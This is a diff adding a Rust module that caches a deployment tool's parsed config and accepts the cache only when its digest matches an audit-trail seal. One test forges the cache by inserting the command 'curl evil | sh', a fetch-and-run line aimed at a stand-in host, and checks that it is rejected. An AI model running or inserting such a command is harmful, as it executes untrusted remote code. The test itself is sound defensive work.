@@ -1,0 +1,210 @@
+//! The resolved protocol set, kept between runs. Parsing and checking a
+//! large config (500 actions, 90 KB of YAML) takes ~7 ms, on every command;
+//! reading back what the last writer resolved takes well under one.
+//!
+//! A cache that decides which commands run must not become a second source
+//! of truth, so it is trusted only as far as the audit trail vouches for it:
+//! the writer that resolves a config records a `protocol_resolved` line
+//! with the config's digest, the build that resolved it and the digest of
+//! the cache's bytes, and state.json carries the newest of these (derived
+//! from the trail and checked against it like every view). A cache file
+//! whose bytes do not hash to the recorded digest, or made for other config
+//! bytes, another build, another file or another repo root, is not read:
+//! the config is parsed again. Nothing but the parse's own output is ever
+//! written: before a cache is offered it is read back and compared with
+//! what it encodes, and one that would not read back the same is not kept.
+
+use super::{Config, ProtocolSet};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+/// What a `protocol_resolved` line records and state.json carries: the
+/// config a cache was resolved from, by whom, and the cache's digest.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
+pub struct ProtocolSeal {
+    /// The config file, as shown (repo-relative).
+    pub config: String,
+    /// SHA-256 of the config file's bytes.
+    pub config_sha256: String,
+    /// The build of deploy-session that resolved it.
+    pub build: String,
+    /// SHA-256 of the cache file's bytes.
+    pub cache_sha256: String,
+}
+
+/// A set resolved by a full parse, with the cache that holds it and the
+/// seal to record when the cache is kept.
+#[derive(Debug)]
+pub struct Fresh {
+    pub seal: ProtocolSeal,
+    pub bytes: Vec<u8>,
+}
+
+/// The cache file's contents.
+#[derive(Serialize, Deserialize, PartialEq)]
+struct Cached {
+    root: PathBuf,
+    set: ProtocolSet,
+    config: Config,
+}
+
+/// This binary, as far as resolving goes: the version, the commit it was
+/// built from when known, and the executable's size and time (a rebuild
+/// from changed sources is another build).
+pub fn build() -> &'static str {
+    static BUILD: OnceLock<String> = OnceLock::new();
+    BUILD.get_or_init(|| {
+        let exe = std::env::current_exe()
+            .and_then(std::fs::metadata)
+            .map(|m| {
+                let at = m
+                    .modified()
+                    .ok()
+                    .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
+                    .unwrap_or_default();
+                format!("{} {}", m.len(), at.as_nanos())
+            })
+            .unwrap_or_default();
+        let commit = option_env!("DEPLOY_SESSION_BUILD_COMMIT").unwrap_or("");
+        let id = sha256(format!("{commit} {exe}").as_bytes());
+        format!("{}+{}", env!("CARGO_PKG_VERSION"), &id[..16])
+    })
+}
+
+/// Lower-case hex SHA-256.
+pub fn sha256(bytes: &[u8]) -> String {
+    crate::audit::hex(&Sha256::digest(bytes))
+}
+
+/// The seal for a config's bytes, before the cache's digest is known.
+fn seal_for(shown: &Path, config_bytes: &[u8]) -> ProtocolSeal {
+    ProtocolSeal {
+        config: shown.display().to_string(),
+        config_sha256: sha256(config_bytes),
+        build: build().to_string(),
+        cache_sha256: String::new(),
+    }
+}
+
+/// The cached set for this config, when `seal` vouches for the cache file
+/// at `file` and it was made from exactly these bytes, by this build, in
+/// this repo. Anything else is `None` (and said at debug level).
+pub fn read(
+    file: &Path,
+    seal: Option<&ProtocolSeal>,
+    root: &Path,
+    shown: &Path,
+    config_bytes: &[u8],
+) -> Option<(ProtocolSet, Config)> {
+    let seal = seal?;
+    let wanted = seal_for(shown, config_bytes);
+    if (&wanted.config, &wanted.config_sha256, &wanted.build)
+        != (&seal.config, &seal.config_sha256, &seal.build)
+    {
+        tracing::debug!("protocol cache: sealed for another config or build");
+        return None;
+    }
+    let bytes = match crate::fsio::read_regular(file) {
+        Ok(Some(b)) => b,
+        other => {
+            tracing::debug!(?other, "protocol cache: not readable");
+            return None;
+        }
+    };
+    if sha256(&bytes) != seal.cache_sha256 {
+        tracing::warn!(
+            file = %file.display(),
+            "the protocol cache is not the one the audit trail records; ignored, the config is parsed again"
+        );
+        return None;
+    }
+    let cached: Cached = serde_json::from_slice(&bytes)
+        .inspect_err(|e| tracing::debug!(%e, "protocol cache: does not decode"))
+        .ok()?;
+    let same_place = cached.root == root && cached.config.file.as_deref() == Some(shown);
+    same_place.then_some((cached.set, cached.config))
+}
+
+/// The cache for a set a full parse just resolved (with its config
+/// [`Config::settled`]), or `None` when it would not read back the same.
+pub fn prepare(
+    root: &Path,
+    shown: &Path,
+    config_bytes: &[u8],
+    set: &ProtocolSet,
+    config: &Config,
+) -> Option<Fresh> {
+    let cached = Cached {
+        root: root.to_path_buf(),
+        set: set.clone(),
+        config: config.clone(),
+    };
+    let bytes = serde_json::to_vec(&cached).ok()?;
+    let back: Cached = serde_json::from_slice(&bytes).ok()?;
+    if back != cached {
+        tracing::debug!("protocol cache: would not read back the same; not kept");
+        return None;
+    }
+    let mut seal = seal_for(shown, config_bytes);
+    seal.cache_sha256 = sha256(&bytes);
+    Some(Fresh { seal, bytes })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::paths::RepoPaths;
+
+    const CONFIG: &str = "vars:\n  host: web-1\nsecrets: [API_TOKEN]\nactions:\n  start.2.1:\n    run: deploy ${host}\n    timeout: 1550ms\n    retries: 2\n    retry_delay: 1h 30m\nadd:\n  - id: start.3.6\n    after: start.3.5\n    title: Canary\n    active: Deploying the canary\n    task_type: STRATEGY_EXECUTION\n    agent: cloud-devops-expert\n    strategy:\n      canary:\n        live_url: http://127.0.0.1:8080\n        deploy: ./deploy.sh\n        set_weight: ./route.sh\n        rollback: ./rollback.sh\n        steps: [5, 50, 100]\n        pause: [1s, 0s, 2500us]\n        probe: { timeout: 5s, interval: 50ms }\n        criteria: { min_success_rate: 99.5 }\n    optional: true\n    env:\n      A: b\ngates:\n  deployment_time_max: 61500ms\n  reliability_min: 0.995\nenvironments:\n  staging: {}\n  production:\n    promote_from: staging\nnotify:\n  command: ./notify.sh\n  timeout: 2s\n";
+
+    fn resolved(dir: &Path) -> (RepoPaths, ProtocolSet, Config) {
+        std::fs::write(dir.join("deploy-session.yaml"), CONFIG).unwrap();
+        let paths = RepoPaths::new(dir.to_path_buf());
+        let (set, config) = crate::protocol::load(&paths).unwrap();
+        (paths, set, config.settled())
+    }
+
+    #[test]
+    fn a_cache_reads_back_only_under_its_seal() {
+        let dir = tempfile::tempdir().unwrap();
+        let (paths, set, config) = resolved(dir.path());
+        let shown = Path::new("deploy-session.yaml");
+        let bytes = CONFIG.as_bytes();
+        let fresh = prepare(paths.root(), shown, bytes, &set, &config).expect("kept");
+        let file = dir.path().join("cache.json");
+        std::fs::write(&file, &fresh.bytes).unwrap();
+        let seal = Some(&fresh.seal);
+        let (back, back_config) = read(&file, seal, paths.root(), shown, bytes).unwrap();
+        assert_eq!(back, set);
+        assert_eq!(back_config.secrets, ["API_TOKEN"]);
+        assert_eq!(back_config.environments, config.environments);
+        // No seal, other config bytes, another file or root: not read.
+        assert!(read(&file, None, paths.root(), shown, bytes).is_none());
+        assert!(read(&file, seal, paths.root(), shown, b"actions: {}\n").is_none());
+        let other = Path::new(".ai_context/deploy-session.yaml");
+        assert!(read(&file, seal, paths.root(), other, bytes).is_none());
+        assert!(read(&file, seal, Path::new("/elsewhere"), shown, bytes).is_none());
+        // A forged cache (a command changed) is not the sealed one.
+        let forged = String::from_utf8(fresh.bytes.clone())
+            .unwrap()
+            .replace("deploy web-1", "curl evil | sh");
+        std::fs::write(&file, forged).unwrap();
+        assert!(read(&file, seal, paths.root(), shown, bytes).is_none());
+    }
+
+    #[test]
+    fn durations_read_back_exactly() {
+        use crate::protocol::Dur;
+        use std::time::Duration;
+        for d in [1550, 61_500, 90_000, 250, 1000, 5_400_000] {
+            let dur = Dur(Duration::from_millis(d));
+            let text: String = dur.into();
+            assert_eq!(Dur::parse(&text), Ok(dur), "{text}");
+        }
+        let odd = Dur(Duration::from_micros(2500));
+        assert_eq!(String::from(odd), "2500000ns");
+        assert_eq!(String::from(Dur(Duration::from_secs(90))), "1m 30s");
+    }
+}
